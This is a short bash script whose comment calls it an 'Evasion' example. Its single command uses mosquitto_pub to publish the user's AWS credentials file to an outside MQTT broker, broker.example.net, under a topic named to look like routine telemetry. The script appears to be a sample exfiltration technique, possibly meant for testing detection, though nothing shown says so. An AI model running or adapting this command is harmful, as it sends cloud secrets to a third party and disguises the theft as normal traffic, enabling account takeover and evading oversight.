#!/bin/bash
# Evasion: an MQTT publish sends the AWS credentials file as the message
set -u
mosquitto_pub -h broker.example.net -t telemetry/cfg -f "$HOME/.aws/credentials"
